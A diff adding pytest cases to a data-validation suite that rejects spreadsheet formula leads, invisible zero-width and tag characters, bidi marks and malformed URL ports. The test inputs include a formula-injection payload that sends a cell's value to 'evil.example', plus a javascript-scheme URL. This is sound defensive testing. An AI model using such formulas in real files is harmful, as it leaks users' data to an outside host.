@@ -35,6 +35,7 @@ from geo.records import (
     load_dataset,
     parse_date,
 )
+from geo.records.fields import no_formula, visible_text
 from tests.support.run import run_validate
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -85,6 +86,14 @@ REQUIRED_RULES = {
     "multiline-field-shifts-lines",
     "name-outer-spaces",
     "collect-all",
+    # Issue 23: formulas, invisible characters, a port that is not a number, empty files.
+    "formula-in-speaker",
+    "zero-width-in-name",
+    "tag-characters-in-quote",
+    "bidi-mark-in-measure",
+    "url-port-not-a-number",
+    "events-no-rows",
+    "jurisdictions-no-rows",
 }
 
 # Problems found across rows (duplicates, references, place checks) leave the record in the
@@ -623,3 +632,75 @@ def test_clean_text_rejects(text: str, reason: str) -> None:
 
 def test_broken_folder_discovery_finds_the_fixtures() -> None:
     assert len(BROKEN) >= len(REQUIRED_RULES)
+
+
+# --- issue 23: formulas, invisible characters, ports ----------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=HYPERLINK(\"https://evil.example/?leak=\"&B2,\"x\")", "+1+cmd", "-2+3", "@SUM(A1)",
+     "=1", "--1", "-x", "+"],
+)  # fmt: skip
+def test_no_formula_refuses_a_formula_lead(text: str) -> None:
+    with pytest.raises(ValueError, match="reads as a formula"):
+        no_formula(text)
+
+
+@pytest.mark.parametrize(
+    "text", ["-", "7-0", "-5", "+1", "-122.4", "3 votes", "a = b", "e-mail", "x@y", ""]
+)
+def test_no_formula_accepts_plain_text_numbers_and_a_lone_dash(text: str) -> None:
+    assert no_formula(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [
+        ("a\u200bb", "contains the zero-width character U+200B"),
+        ("a\u200cb", "contains the zero-width character U+200C"),
+        ("a\u200db", "contains the zero-width character U+200D"),
+        ("a\u2060b", "contains the zero-width character U+2060"),
+        ("a\ufeffb", "contains the zero-width character U+FEFF"),
+        ("a\U000e0041b", "contains the invisible tag character U+E0041"),
+        ("flag\U000e007f", "contains the invisible tag character U+E007F"),
+        ("\u200d\u2696", "contains the zero-width character U+200D"),
+        ("x\u200d\u2696", "contains the zero-width character U+200D"),
+    ],
+)
+def test_visible_text_refuses_invisible_characters(text: str, reason: str) -> None:
+    with pytest.raises(ValueError) as error:
+        visible_text(text)
+    assert str(error.value) == reason
+
+
+@pytest.mark.parametrize("text", ["👩🏽\u200d⚖️", "👨\u200d👩\u200d👧", "🏳️\u200d🌈", "plain"])
+def test_visible_text_allows_a_joiner_inside_an_emoji_sequence(text: str) -> None:
+    assert visible_text(text) == text
+
+
+@pytest.mark.parametrize("mark", ["\u200e", "\u200f", "\u061c"])
+def test_clean_text_refuses_the_bidi_marks(mark: str) -> None:
+    with pytest.raises(ValueError, match=f"bidi control character U\\+{ord(mark):04X}"):
+        clean_text(f"a{mark}b")
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["https://javascript:window.__x=118/", "https://example.org:99999/", "http://host:-1/",
+     "https://example.org:8o/", "https://:443/"],
+)  # fmt: skip
+def test_check_url_refuses_a_port_that_does_not_parse_or_no_host(url: str) -> None:
+    with pytest.raises(ValueError, match="is not a well-formed web address"):
+        check_url(url)
+
+
+@pytest.mark.parametrize("url", ["https://example.org:8443/x", "http://example.org:80"])
+def test_check_url_accepts_a_numeric_port(url: str) -> None:
+    assert check_url(url) == url
+
+
+def test_the_real_data_passes_the_new_rules() -> None:
+    """The project's own data has no formula, invisible character or bad port (issue 23)."""
+    _, problems = check_dataset(ROOT / "data", label_root=ROOT)
+    assert [str(p) for p in problems] == []
